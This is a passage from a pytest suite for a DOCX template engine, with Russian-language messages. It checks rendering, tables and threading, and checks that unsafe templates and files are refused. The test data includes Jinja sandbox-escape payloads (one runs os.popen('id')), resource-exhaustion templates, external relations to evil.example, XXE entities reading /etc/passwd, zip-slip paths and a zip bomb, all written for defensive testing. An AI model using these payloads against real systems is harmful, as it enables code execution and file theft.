        "{{ calendar_plan | sum(attribute='cost') }} {{ indicators.headcount['2023'] }} {{ calendar_plan[0].months }}",
        "{% for y in edition.years %}{{ indicators.headcount[y] }}{% endfor %}",
        "{% set company = applicant.company %}{{ company.inn }}",
        "{% for m in team.members if m.role == 'lead' %}{{ (team.members | first).name }}{% endfor %}",
        "{% for i in range(budget.count) %}{{ i }}{% endfor %}{% for a, b in pairs %}{{ a }}{% endfor %}",
        header=["{{ project.title }}"],
        title="{{ project.title }}",
    )  # fmt: skip
    found = [place.address for place in compiled.placeholders()]
    assert found == [
        *("/project/title", "/tor/power"),
        *("/calendar_plan", "/calendar_plan/*/cost", "/calendar_plan/*/works", "/calendar_plan/*/works/*/title"),
        *("/calendar_plan/*/cost", "/indicators/headcount/2023", "/calendar_plan/*/months"),
        *("/edition/years", "/indicators/headcount/*", "/edition/years/*"),
        *("/applicant/company", "/applicant/company/inn"),
        *("/team/members", "/team/members/*/role", "/team/members/*/name"),
        *("/budget/count", "/pairs"),
        *("/project/title", "/project/title"),
    ]


def test_a_placeholder_tells_where_it_stands_and_whether_it_is_printed(template: Callable[..., Template]) -> None:
    compiled = template(
        "Тема: {{ project.title }}", "{%p if tor.power %}", "П", "{%p endif %}", footer=["{{ a if b else c }}"]
    )
    places = compiled.placeholders()
    assert [(place.address, place.printed) for place in places] == [
        ("/project/title", True),
        ("/tor/power", False),
        ("/b", False),
        ("/a", True),
        ("/c", True),
    ]
    first = places[0]
    assert (first.paragraph, first.expression) == ("Тема: {{ project.title }}", "{{ project.title }}")
    assert render(first.part, "ru") == "тело документа"
    assert render(places[-1].part, "ru") == "нижний колонтитул (footer.xml)"


# --- documents that open ---------------------------------------------------------------------------------------------


def children(element: Any) -> list[str]:
    return [child.tag.rpartition("}")[2] for child in element]


def test_a_cell_whose_paragraphs_were_left_out_keeps_one(template: Callable[..., Template]) -> None:
    content = template([[["{%p if x %}", "да", "{%p endif %}"], "б"]]).render({"x": False})
    assert [children(cell)[-1] for cell in tree_of(content).iter(f"{{{W}}}tc")] == ["p", "p"]


def test_a_header_and_a_note_whose_paragraphs_were_left_out_keep_one(template: Callable[..., Template]) -> None:
    gone = ["{%p if x %}", "да", "{%p endif %}"]
    content = template("{{ x }}", header=gone, footnotes=gone).render({"x": False})
    assert children(tree_of(content, "word/header.xml")) == ["p"]
    assert children(tree_of(content, "word/footnotes.xml")[0]) == ["p"]


def test_a_table_without_rows_is_left_out(template: Callable[..., Template]) -> None:
    rows = [["{%tr for r in rows %}"], ["{{ r }}"], ["{%tr endfor %}"]]
    content = template("до", rows, [[["внутри", rows]]], "после").render({"rows": []})
    assert texts_of(content) == ["до", "внутри", "после"]
    assert len(list(tree_of(content).iter(f"{{{W}}}tbl"))) == 1


def test_the_grid_of_a_table_follows_its_columns_and_keeps_its_width(template: Callable[..., Template]) -> None:
    compiled = template([["№", "{%tc for y in years %}", "{{ y }}", "{%tc endfor %}"]])
    for years in (["2023"], ["2023", "2024", "2025", "2026"]):
        table = tree_of(compiled.render({"years": years})).find(f".//{{{W}}}tbl")
        widths = [int(column.get(f"{{{W}}}w")) for column in table.iter(f"{{{W}}}gridCol")]
        cells = [int(width.get(f"{{{W}}}w")) for width in table.iter(f"{{{W}}}tcW")]
        assert len(widths) == 1 + len(years)
        assert 8990 <= sum(widths) <= 9000
        assert cells == widths


def test_drawings_that_a_loop_repeats_have_numbers_of_their_own(template: Callable[..., Template]) -> None:
    drawing = '<w:r><w:drawing><wp:inline><wp:docPr id="1" name="a"/></wp:inline></w:drawing></w:r>'
    text = Xml(
        f"<w:p><w:r><w:t>{{% for i in range(3) %}}</w:t></w:r>{drawing}<w:r><w:t>{{% endfor %}}</w:t></w:r></w:p>"
    )
    tree = tree_of(template(text).render({}))
    numbers = [
        one.get("id")
        for one in tree.iter("{http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing}docPr")
    ]
    assert len(numbers) == len(set(numbers)) == 3


@pytest.mark.slow
def test_libreoffice_opens_what_was_rendered_and_shows_every_answer(
    template: Callable[..., Template], tmp_path: Path, require_tool: Callable[[str], str]
) -> None:
    soffice = require_tool("soffice")
    rows = [["{%tr for r in rows %}", ""], ["{{ loop.index }}", "{{ r }}"], ["{%tr endfor %}", ""]]
    empty = [[["{%p if no %}", "нет", "{%p endif %}"], "ячейка"]]
    body = ("Тема: {{ x }}", rows, empty, "{{ gone }}")
    context = {
        "x": "A & B <тест>\nвторая\tстрока №«»",
        "rows": ["альфа", "бета"],
        "no": False,
        "gone": Missing("Отзыв", "/x"),
    }
    compiled = template(*body, header=["Шапка {{ x }}"], footnotes=["{{ x }}"], title="{{ x }}")
    written = tmp_path / "готово.docx"
    written.write_bytes(compiled.render(context))
    text = by_libreoffice(soffice, written, "txt:Text (encoded):UTF8").read_text(encoding="utf-8-sig")
    for piece in ("Тема: A & B <тест>", "вторая\tстрока №«»", "альфа", "бета", "ячейка", "[не заполнено: Отзыв]"):
        assert piece in text


@pytest.mark.slow
def test_a_template_saved_by_libreoffice_is_filled_and_gets_no_second_core_properties(
    template: Callable[..., Template], tmp_path: Path, require_tool: Callable[[str], str]
) -> None:
    soffice = require_tool("soffice")
    rows = [["{%tr for r in rows %}"], ["{{ r }}"], ["{%tr endfor %}"]]
    template("Тема: {{ x }}", rows, header=["{{ x }}"], title="{{ x }}")
    saved = by_libreoffice(soffice, tmp_path / "шаблон.docx", "docx:MS Word 2007 XML")
    content = compile_template(saved).render({"x": "A & B", "rows": ["альфа", "бета"]})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
    assert len(names) == len(set(names))
    assert sum(name.endswith("core.xml") for name in names) == 1
    assert [text for text in texts_of(content) if text] == ["Тема: A & B", "альфа", "бета"]


# --- many at once ----------------------------------------------------------------------------------------------------


def test_one_template_serves_sixteen_threads_and_each_document_has_its_own_data(
    template: Callable[..., Template],
) -> None:
    rows = [["{%tr for r in rows %}"], ["{{ r.name }} {{ company }}"], ["{%tr endfor %}"]]
    compiled = template(
        "{{ company }}: {{ inn | optional('нет') }}", rows, header=["{{ company }}"], title="{{ company }}"
    )

    def one(number: int) -> None:
        company = f"ООО «Компания {number}»"
        context = {
            "company": company,
            "inn": Missing(f"ИНН {number}", "/inn") if number % 3 == 0 else str(number),
            "rows": [{"name": f"Сотрудник {number}-{index}"} for index in range(number % 7)],
        }
        rendering = compiled.rendering(context)
        texts = texts_of(rendering.content)
        inn = f"[не заполнено: ИНН {number}]" if number % 3 == 0 else str(number)
        assert texts == [f"{company}: {inn}", *(f"Сотрудник {number}-{index} {company}" for index in range(number % 7))]
        assert texts_of(rendering.content, "word/header.xml") == [company]
        assert [absent.label for absent in rendering.missing] == ([f"ИНН {number}"] if number % 3 == 0 else [])

    with ThreadPoolExecutor(16) as threads:
        list(threads.map(one, range(320)))


def test_a_failed_rendering_leaves_the_template_as_it_was(template: Callable[..., Template]) -> None:
    compiled = template("{{ x }}", header=["{{ y }}"])
    good = compiled.render({"x": "а", "y": "б"})
    for bad in ({"x": "а"}, {"x": "\x00", "y": "б"}, {"x": [], "y": "б"}):
        with pytest.raises(ApplykitError):
            compiled.render(bad)
    assert compiled.render({"x": "а", "y": "б"}) == good


# --- hostile templates -----------------------------------------------------------------------------------------------

ESCAPES = [
    "{{ ''.__class__.__mro__ }}",
    "{{ ''.__class__ }}",
    "{{ x.__class__.__init__.__globals__ }}",
    "{{ x['__class__'] }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ self.__init__.__globals__ }}",
    "{{ self }}",
    "{{ joiner }}",
    "{{ namespace(x=1) }}",
    "{{ x.format(x) }}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ '%s' % x }}",
    "{{ x.upper() }}",
    "{{ rows.append(1) }}",
    "{{ rows.pop() }}",
    "{{ rows.copy }}",
    "{{ project.items() }}",
    "{{ project.keys }}",
    "{{ loop }}",
    "{{ range }}",
    "{{ range.__self__ }}",
    "{{ x | attr('__class__') }}",
    "{{ x | map('upper') }}",
    "{{ x | safe }}",
    "{{ x | xmlattr }}",
    "{{ x | tojson }}",
    "{{ x | pprint }}",
    "{{ x | in_text }}",
    "{{ x | rows }}",
    "{{ x | default('a') }}",
    "{{ dict(a=1) }}",
    "{{ {'a': 1} }}",
    "{{ g.x() }}",
    "{{ x is callable }}",
    "{% for k in rows %}{{ loop.__class__ }}{% endfor %}",
    "{% for k in rows %}{{ loop.cycle(1, 2) }}{% endfor %}",
    "{% for k in rows recursive %}{{ loop(rows) }}{% endfor %}",
    "{% macro f() %}{% endmacro %}",
    "{% call x() %}{% endcall %}",
    "{% import 'os' as os %}",
    "{% extends 'a' %}",
    "{% block a %}{% endblock %}",
    "{% filter upper %}{% endfilter %}",
    "{% with a = x %}{% endwith %}",
    "{% raw %}{% endraw %}",
    "{% set ns.x = 1 %}",
    "{% set a, b = rows %}",
    "{{ x(*rows) }}",
    "{{ x | join(**project) }}",
]  # fmt: skip


@pytest.mark.parametrize("part", ["body", "header", "footnotes", "title"])
@pytest.mark.parametrize("tag", ESCAPES)
def test_a_template_gets_at_nothing_but_plain_data(refused: Callable[..., str], tag: str, part: str) -> None:
    context = {"x": "а", "rows": [1], "project": {"title": "Т"}, "g": {}}
    body = [tag] if part == "body" else ["x"]
    title = tag if part == "title" else ""
    parts = {part: [tag]} if part in ("header", "footnotes") else {}
    sentence = refused(*body, context=context, title=title, **parts)
    assert "root" not in sentence
    assert "uid=" not in sentence


COSTLY = [
    "{{ 'a' * 10**9 }}",
    "{{ 'a' * 1000000000 }}",
    "{{ 10**10**10 }}",
    "{{ '%1000000000d' % 1 }}",
    "{% for i in range(100000000) %}{% endfor %}",
    "{% for i in range(9999) %}{% for j in range(9999) %}{% endfor %}{% endfor %}",
    "{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}{% endfor %}",
    "{% for i in range(9999) %}{% if range(9999) | sum > 1 %}{% endif %}{% endfor %}",
    "{% for i in range(9999) %}{% if (big | upper) == 'x' %}{% endif %}{% endfor %}",
    "{{ range(10000) | join(big) }}",
    "{% for i in range(9999) %}{{ big }}{% endfor %}",
    "{% set a = big ~ big %}" + "{% set a = a ~ a %}" * 40,
    "{% set a = 99999999999999999999 %}" + "{% set a = a * a %}" * 40,
    "{{ " + "(" * 400 + "x" + ")" * 400 + " }}",
    "{{ " + "-" * 900 + "x }}",
    "{{ " + "not " * 200 + "x }}",
    "{{ x " + "+ x" * 300 + " }}",
    "{{ x" + ".a" * 400 + " }}",
    "{% if x %}" * 300 + "{% endif %}" * 300,
    "{% for i in rows %}" * 60 + "{% endfor %}" * 60,
    "{{ x" + " " * 900 + "}}",
    "{{ " + "x" * 5000 + " }}",
]


@pytest.mark.parametrize("tag", COSTLY)
def test_a_template_cannot_cost_more_than_a_document_may(refused: Callable[..., str], tag: str) -> None:
    started = time.perf_counter()
    refused(tag, context={"x": 5, "rows": [1, 2], "big": "я" * 100_000})
    assert time.perf_counter() - started < 2


@pytest.mark.parametrize(
    "text",
    ["{{ " * 30_000, "{{r " * 30_000, "{% colspan " * 30_000, "{" * 100_000, "{% vm %}" * 11_000, "{{x}}" * 20_000],
)
def test_a_heap_of_tags_is_refused_in_no_time(refused: Callable[..., str], text: str) -> None:
    started = time.perf_counter()
    refused(text, [[text]], context={"x": "а"}, header=["{{ unknown }}"])
    assert time.perf_counter() - started < 2


def with_relation(kind: str, target: str) -> dict[str, str]:
    relation = f'<Relationship Id="rId1" Type="{KIND}/{kind}" Target="{target}" TargetMode="External"/>'
    return {
        "word/_rels/settings.xml.rels": f'{DECLARATION}<Relationships xmlns="{RELATIONS}">{relation}</Relationships>'
    }


@pytest.mark.parametrize(
    ("more", "says"),
    [
        (with_relation("attachedTemplate", "http://evil.example/a.dotm"), "подключает шаблон извне (http://evil"),
        (with_relation("image", "http://evil.example/a.png"), "загружает содержимое извне"),
        (with_relation("oleObject", "file:///etc/passwd"), "загружает содержимое извне"),
        ({"word/vbaProject.bin": b"x"}, "есть макросы"),
        ({"word/a.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}, "объявления DTD"),
        ({"word/a.xml": '<!DOCTYPE a [<!ENTITY x "ha">]><a/>'.encode("utf-16")}, "объявления DTD"),
        ({"word/document.xml": f"<!DOCTYPE a><w:document {NAMESPACES}><w:body/></w:document>"}, "объявления DTD"),
        ({"word/document.xml": "<w:document"}, "часть word/document.xml внутри него повреждена"),
        ({"../evil.txt": "x"}, "ведут наружу"),
        ({"word\\evil.txt": "x"}, "ведут наружу"),
        ({"/etc/evil": "x"}, "ведут наружу"),
        ({"WORD/DOCUMENT.XML": "x"}, "два файла с одним именем"),
        ({f"word/{number}.xml": "<a/>" for number in range(3000)}, "намного больше"),
        ({"word/media/a.bmp": b"\x00" * 30_000_000}, "намного больше"),
        ({"word/a.xml": "<a>" + "<b/>" * 700_000 + "</a>"}, "намного больше"),
        ({"_rels/.rels": f'<Relationships xmlns="{RELATIONS}"/>'}, "не документ Word"),
        ({"word/document.xml": f'<document xmlns="{W}"><body><p><r><t>{{{{x}}}}</t></r></p></body></document>'}, "так"),
        ({"word/document.xml": '<document xmlns="http://purl.oclc.org/ooxml/wordprocessingml/main"/>'}, "Строгий"),
    ],
)  # fmt: skip
def test_an_unsafe_file_is_refused_with_a_sentence(
    refused: Callable[..., str], more: dict[str, str | bytes], says: str
) -> None:
    started = time.perf_counter()
    assert says in refused("{{ x }}", more=more)
    assert time.perf_counter() - started < 2


def test_a_hyperlink_to_elsewhere_is_no_danger(filled: Callable[..., list[str]]) -> None:
    assert filled({"x": "а"}, "{{ x }}", more=with_relation("hyperlink", "https://fasie.ru")) == ["а"]


# Prints how much memory refusing a template took at most, in kB. What getrusage says on Linux includes the memory of
# the process that forked; VmHWM begins anew with the program.
PEAK_OF_REFUSAL = r"""
import re, sys
from pathlib import Path
from applykit.errors import TemplateError
from applykit.template import compile_template

try:
    compile_template(Path(sys.argv[1]))
except TemplateError:
    pass
else:
    sys.exit("it was not refused")
status = Path("/proc/self/status")
peak = re.search(r"VmHWM:\s+(\d+)", status.read_text()) if status.exists() else None
if peak:
    print(peak[1])
elif sys.platform == "win32":
    print(1)  # no such figure there
else:
    import resource

    taken = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(taken // 1024 if sys.platform == "darwin" else taken)
"""


def test_a_zip_bomb_is_refused_without_unpacking_it(tmp_path: Path) -> None:
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files_of(docx("x")).items():
            archive.writestr(name, content)
        with archive.open("word/media/image1.png", "w", force_zip64=True) as image:
            for _ in range(600):
                image.write(bytes(1_000_000))
    started = time.perf_counter()
    told = subprocess.run([sys.executable, "-c", PEAK_OF_REFUSAL, path], capture_output=True, check=True, text=True)
    assert 0 < int(told.stdout) < 300_000
    assert time.perf_counter() - started < 2


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "не документ Word"),
        (b"just text", "не документ Word"),
        (b"PK\x03\x04 broken", "не документ Word"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "старого формата (.doc) или документ под паролем"),
        (packed({"a.txt": "x"}), "не документ Word"),
        (packed({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<a/>"}), "не документ Word"),
    ],
)
def test_a_file_that_is_no_docx_gets_a_sentence(tmp_path: Path, content: bytes, says: str) -> None:
    path = tmp_path / "a.docx"
    path.write_bytes(content)
    with pytest.raises(TemplateError) as caught:
        compile_template(path)
    assert says in said(caught.value)
    assert caught.value.file == path


@pytest.mark.parametrize(
    ("kind", "says"),
    [
        ("application/vnd.ms-word.document.macroEnabled.main+xml", "есть макросы"),
        ("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "шаблон .dotx"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "это таблица"),
    ],
)
def test_other_kinds_of_office_files_are_refused(tmp_path: Path, kind: str, says: str) -> None:
    files = files_of(docx("x"))
    usual = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(usual, kind.encode())
    path = tmp_path / "a.docx"
    path.write_bytes(packed(files))
    with pytest.raises(TemplateError) as caught:
        compile_template(path)
    assert says in said(caught.value)
    assert "сохраните как «Документ Word (*.docx)»" in said(caught.value)


def test_a_template_that_is_not_there_gets_a_sentence(tmp_path: Path) -> None:
    with pytest.raises(TemplateError) as caught:
        compile_template(tmp_path / "нет.docx")
    assert said(caught.value) == "Шаблона с таким именем нет."
    with pytest.raises(TemplateError) as caught:
        compile_template(tmp_path)
    assert "не читается" in said(caught.value)


def test_braces_that_are_no_tag_stay_where_they_are(tmp_path: Path) -> None:
    path = write_docx(tmp_path / "braces.docx", "{_{", "{ а", "{% if x %}} { {% endif %}", "} и {_% {{ x }}{", "} }_}")
    texts = texts_of(compile_template(path).render({"x": "б"}))
    assert texts == ["{{", "{ а", "} { ", "} и {% б{", "} }}"]


@settings(max_examples=300)
@example("{_{")  # a brace that ends one paragraph beside one that begins the next
@given(st.text(st.sampled_from("{}%# xif.or'\"|«»“”\n&<>-ptr_()"), max_size=40))
def test_whatever_stands_in_a_paragraph_the_template_compiles_or_is_refused_in_words(
    tmp_path_factory: pytest.TempPathFactory, text: str
) -> None:
    path = write_docx(tmp_path_factory.getbasetemp() / "random.docx", text, [[text]], header=[text])
    try:
        content = compile_template(path).render({"x": "а", "f": [1], "i": {"x": "б"}})
    except ApplykitError as error:
        assert said(error)  # noqa: PT017  # either outcome is right
    else:
        tree_of(content)
